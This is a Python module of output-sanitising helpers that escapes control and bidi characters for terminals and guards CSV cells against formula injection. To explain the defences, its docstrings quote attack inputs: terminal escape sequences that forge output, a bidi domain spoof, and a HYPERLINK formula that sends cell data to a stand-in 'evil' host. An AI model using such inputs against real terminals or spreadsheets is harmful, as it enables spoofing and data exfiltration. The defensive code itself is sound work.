"""Texts from the outside world made safe for the two places they end up: a terminal (or log) and a CSV cell.

`for_terminal` is the one escaper of everything sitemapkit prints: a sitemap's `<loc>`, a text line, a file
name, an HTTP header can carry control characters that a terminal obeys (`ESC ] 8 ;;` makes a hidden
hyperlink, `ESC ] 0 ;` sets the window title, `ESC [ 2K` + CR erases the line so a forged `0 errors` can be
printed over it, a LF starts a line that looks like sitemapkit's own) and bidi controls that reorder what is
shown (U+202E makes `moc.evil` read as `live.com`). They are shown instead, as escapes:

- C0 controls, DEL and C1 controls (U+0080-U+009F): `\\n`, `\\r`, `\\t` for LF, CR and TAB, `\\xNN` for the
  others (`\\x1b` for ESC, `\\x7f` for DEL, `\\x85` for NEL);
- the bidi controls (U+061C, U+200E, U+200F, U+202A-U+202E, U+2066-U+2069) and the line and paragraph
  separators (U+2028, U+2029): `\\uNNNN` (`\\u202e`);
- a file name's undecodable bytes (the surrogates U+DC80-U+DCFF `os.fsdecode` gives them): `\\xNN`, the byte
  (`\\xe9`); any other lone surrogate: `\\uNNNN`.

The notation is Python's, so a reader knows it; a backslash itself is left as it is (the text is for reading,
not for decoding back), which also makes `for_terminal` idempotent: escaping an escaped text changes nothing.

`csv_cell` is the one guard of a text written into a CSV cell (see its docstring).
"""

from __future__ import annotations

import re

_ESCAPED = re.compile(
    "[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]"
)
_SHORT = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}


def _escape(match: re.Match[str]) -> str:
    ch = match.group()
    short = _SHORT.get(ch)
    if short is not None:
        return short
    code = ord(ch)
    if code <= 0x9F:
        return f"\\x{code:02x}"
    if 0xDC80 <= code <= 0xDCFF:  # an undecodable byte of a file name (surrogateescape)
        return f"\\x{code - 0xDC00:02x}"
    return f"\\u{code:04x}"


def for_terminal(text: str, limit: int | None = None) -> str:
    """`text` safe to print on a terminal or write to a log, on one line: control, bidi and separator
    characters and undecodable bytes shown as escapes (see the module's docstring for the notation), and,
    with `limit`, a text longer than `limit` characters shortened in the middle to about that many, keeping
    its start and end around a note of how much was left out (`... [1,234,567 characters left out] ...`).

    Printable ASCII (the common case) costs two string scans and no copy."""
    if limit is not None and len(text) > limit:
        tail = max(limit // 5, 1)
        head = max(limit - tail, 0)
        left_out = len(text) - head - tail
        text = f"{text[:head]} ... [{left_out:,} characters left out] ... {text[-tail:]}"
    if text.isascii() and text.isprintable():
        return text
    return _ESCAPED.sub(_escape, text)


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: str) -> str:
    """`value` safe to write as a CSV cell that a spreadsheet opens (CSV injection, OWASP's rule): a value
    that begins with `=`, `+`, `-`, `@`, TAB or CR, which Excel, LibreOffice and Google Sheets would take as a
    formula (`=HYPERLINK("http://evil/?"&A1, "click")`, `@SUM(...)`, `-2+3`), is prefixed with a single quote
    (`'=HYPERLINK(...`), which the spreadsheet shows as text; any other value is returned as it is.

    A lone `-` (the name of standard input, a placeholder) is left as it is: no spreadsheet computes it.
    Only for text cells (URLs, titles, file names): a number a column holds (a count, a priority) is written
    as it is, since `'-1` would no longer be a number. Quoting a cell that holds the separator, a quote or a
    line break stays the `csv` module's job."""
    if value.startswith(_FORMULA_START) and value != "-":
        return "'" + value
    return value
